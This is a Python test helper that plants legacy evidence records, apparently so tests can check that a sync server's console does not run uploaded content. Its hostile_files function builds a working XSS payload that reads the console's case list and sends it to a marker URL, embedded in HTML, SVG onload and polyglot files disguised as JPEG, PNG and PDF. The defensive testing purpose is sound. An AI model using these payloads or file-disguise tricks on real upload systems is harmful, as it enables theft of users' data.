"""Legacy data: a merged record citing files today's ingest would refuse (HTML, SVG, polyglots), written
straight into the evidence store and the database, as if it had arrived before the type checks existed."""
from __future__ import annotations

import hashlib
import os
from datetime import UTC, datetime

from sqlalchemy import Engine

from schemas.records import EvidenceKind, Role
from schemas.seal import record_digest
from sync_server.db import open_session
from sync_server.evidence.disk_store import BlobStore
from sync_server.tables import EvidenceClaim, EvidenceFile, Record, RecordEvidence
from tests.sync_server.helpers import FieldTeam, Visit

RECEIVED = datetime(2026, 11, 17, 3, 0, tzinfo=UTC)


def store_blob(blobs: BlobStore, data: bytes) -> str:
    """Put bytes in the evidence store under their hash, as the store itself would have."""
    sha = hashlib.sha256(data).hexdigest()
    path = blobs.path_for(sha)
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(data)
    os.chmod(path, 0o644)
    return sha


def plant_legacy_record(engine: Engine, blobs: BlobStore, team: FieldTeam, visit: Visit,
                        hostile: dict[str, tuple[bytes, str, EvidenceKind]], uploader: str = "zhangwei",
                        owner: str = "team:team-yb-01") -> dict[str, str]:
    """Merge `visit` plus the hostile files (name -> bytes, declared type, kind) without any check.

    Returns name -> sha256. The files are claimed by the uploader's team, so access rules apply as usual."""
    shas = {}
    for name, (data, media_type, kind) in hostile.items():
        visit.add(data, kind, Role.SCENE, uploader, media_type, caption=name)
        visit.record.evidence[-1].filename = name
        shas[name] = hashlib.sha256(data).hexdigest()
    sealed = team.seal(visit.record)
    with open_session(engine) as session:
        for sha, data in visit.files.items():
            store_blob(blobs, data)
            if session.get(EvidenceFile, sha) is None:
                session.add(EvidenceFile(sha256=sha, size=len(data), stored_at=RECEIVED, stored_by=uploader))
                session.add(EvidenceClaim(sha256=sha, owner=owner, claimed_by=uploader, claimed_at=RECEIVED))
        record = visit.record
        session.add(Record(id=record.id, case_id=record.case_id, kind=record.kind.value,
                           outcome=record.outcome.value, form_id=record.form_id, form_version=record.form_version,
                           sealed_json=sealed.model_dump_json(), digest=record_digest(record).hex(),
                           received_at=RECEIVED, received_from=uploader))
        session.flush()
        for ref in {e.sha256: e for e in record.evidence}.values():
            session.add(RecordEvidence(record_id=record.id, sha256=ref.sha256, kind=ref.kind.value,
                                       role=ref.role.value, media_type=ref.media_type))
        session.commit()
    return shas


JPEG_HEADER = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def hostile_files(marker: str, real_jpeg: bytes) -> dict[str, tuple[bytes, str, EvidenceKind]]:
    """Files whose script, if it ever ran, would set `window.__pwned`, read the console's case list
    and send it to `marker`: name -> (bytes, declared type, kind)."""
    script = (f"window.__pwned=1;fetch('/console/cases').then(r=>r.text())"
              f".then(t=>fetch('{marker}?leak='+encodeURIComponent(t.slice(0,200))));"
              f"new Image().src='{marker}?img=1';")
    page = f"<!doctype html><html><body><script>{script}</script><img src=x onerror=\"{script}\"></body></html>"
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}">'
           f"<script>{script}</script><rect width='10' height='10'/></svg>")
    html = page.encode()
    return {
        "page.html": (html, "text/html", EvidenceKind.DOCUMENT),
        "drawing.svg": (svg.encode(), "image/svg+xml", EvidenceKind.PHOTO),
        "svg-named.png": (svg.encode() + b" ", "image/png", EvidenceKind.PHOTO),
        "jpeg-then-html.jpg": (JPEG_HEADER + html, "image/jpeg", EvidenceKind.PHOTO),
        "html-then-png.png": (html + PNG_SIGNATURE + b"\x00" * 16, "image/png", EvidenceKind.PHOTO),
        "real-jpeg-html-tail.jpg": (real_jpeg + html, "image/jpeg", EvidenceKind.PHOTO),
        "pdf-then-html.pdf": (b"%PDF-1.4\n" + html, "application/pdf", EvidenceKind.DOCUMENT),
    }
